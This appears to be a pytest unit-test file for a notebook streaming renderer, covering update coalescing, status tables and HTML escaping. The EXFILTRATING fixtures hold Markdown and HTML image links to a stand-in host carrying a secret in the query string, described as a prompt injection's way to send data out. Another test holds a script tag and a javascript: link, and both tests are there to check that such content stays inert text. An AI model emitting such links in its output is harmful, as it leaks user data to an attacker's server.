"""The streaming renderer: coalescing, ordering, the final Markdown."""

from __future__ import annotations

import itertools
from dataclasses import replace

import pytest

from rocm_nb.client import Client
from rocm_nb.client.status import ServerStatus
from rocm_nb.notebook.display import Bundle, StreamDisplay, status_bundle
from tests.support.clock import FakeClock

pytestmark = pytest.mark.unit


def test_updates_are_coalesced_and_nothing_is_lost() -> None:
    sent: list[tuple[Bundle, bool]] = []
    clock = FakeClock()
    shown = StreamDisplay(lambda bundle, update: sent.append((bundle, update)), rate=20, clock=clock)
    pieces = [f"t{i} " for i in range(1000)]
    for piece in pieces:  # 1,000 tokens over one second: 1,000 tokens/s
        shown.append(piece)
        clock.now += 0.001
    shown.finish("1000 tokens")
    streaming = [b for b, _ in sent[1:-1]]
    assert 19 <= len(streaming) <= 21  # ~20 updates for one second of tokens
    texts = [b["text/plain"].rstrip("▌") for b in streaming]
    assert all(later.startswith(earlier) for earlier, later in itertools.pairwise(texts))
    final = sent[-1][0]
    assert final["text/plain"] == "".join(pieces) + "\n\n1000 tokens"
    assert final["text/html"] == f"<p>{''.join(pieces).strip()}</p>\n<p><sub>1000 tokens</sub></p>"
    assert [update for _, update in sent] == [False] + [True] * (len(sent) - 1)
    assert shown.updates == len(sent)


def test_not_live_shows_once_at_the_end() -> None:
    sent: list[Bundle] = []
    shown = StreamDisplay(lambda bundle, update: sent.append(bundle), live=False)
    for piece in ["a", "b", "c"]:
        shown.append(piece)
    assert sent == []
    shown.finish("", markdown=False)
    assert sent == [{"text/plain": "abc"}]


EXFILTRATING = {
    "inline": "See ![x](http://evil.invalid/?q=secret) here.",
    "reference": "See ![x][r] here.\n\n[r]: http://evil.invalid/?q=secret",
    "raw HTML": 'See <img src="http://evil.invalid/?q=secret"> here.',
}


@pytest.mark.parametrize("text", EXFILTRATING.values(), ids=EXFILTRATING.keys())
def test_the_final_rendering_fetches_nothing_but_shows_the_url(text: str) -> None:
    """A model's image (a prompt injection's way to send data away) is shown as text, never loaded."""
    sent: list[Bundle] = []
    shown = StreamDisplay(lambda bundle, update: sent.append(bundle), live=False)
    shown.append(text)
    shown.finish("12 tokens")
    [final] = sent
    assert set(final) == {"text/plain", "text/html"}, "never text/markdown: a front end would load its images"
    assert "<img" not in final["text/html"] and "![" not in final["text/html"]
    assert "http://evil.invalid/?q=secret" in final["text/html"]


def test_raw_html_and_script_links_stay_text() -> None:
    sent: list[Bundle] = []
    shown = StreamDisplay(lambda bundle, update: sent.append(bundle), live=False)
    shown.append('<script>alert(1)</script> [go](javascript:alert(1)) <a href="x">a</a>')
    shown.finish("<b>footer</b>")
    html = sent[-1]["text/html"]
    assert "<script" not in html and "<a " not in html and "<b>" not in html
    assert "&lt;script&gt;" in html and "&lt;b&gt;footer&lt;/b&gt;" in html


def test_status_table() -> None:
    small = ServerStatus(model="SmolLM2", file="m.gguf", backend="cpu", state="running", pid=42, port=8080,
                         uptime_s=3725, rss_bytes=300 * 2**20, gpu_layers=0, ctx_size=4096, decode_tps=151.23,
                         rpc=("10.0.0.2:50052",))
    remote = Client("http://127.0.0.1:9").status()  # nothing listens there
    assert (remote.file, remote.backend, remote.state, remote.pid) == ("http://127.0.0.1:9", "remote", "unreachable",
                                                                       None)
    bundle = status_bundle({"small": small, "far": remote}, current="small", notes=["backend: cpu"])
    text = bundle["text/plain"]
    header, row, far = text.splitlines()[:3]
    assert header.split()[:4] == ["model", "file", "backend", "state"]
    assert row.split()[:6] == ["*", "small", "m.gguf", "cpu", "running", "42"]
    assert "1h02m" in row and "300 MiB" in row and "151.2" in row and "10.0.0.2:50052" in row
    assert far.split()[:4] == ["far", "http://127.0.0.1:9", "remote", "unreachable"] and "–" in far
    assert "backend: cpu" in text
    assert "<td>small</td>" in bundle["text/html"] and "<td>unreachable</td>" in bundle["text/html"]
    estimated = status_bundle({"m": replace(small, estimate_bytes=2**30, estimate_vram_bytes=3 * 2**30)},
                              current=None, notes=[])["text/plain"]
    assert "estimated 1.0 GiB, measured 300 MiB; VRAM estimated 3.0 GiB" in estimated
    empty = status_bundle({}, current=None, notes=[])
    assert "no model loaded" in empty["text/plain"]
    warm = status_bundle({"m": replace(small, restored_tokens=2803)}, current=None, notes=[])["text/plain"]
    assert warm.splitlines()[0].split()[-1] == "restored" and warm.splitlines()[1].endswith(" 2,803 tokens")
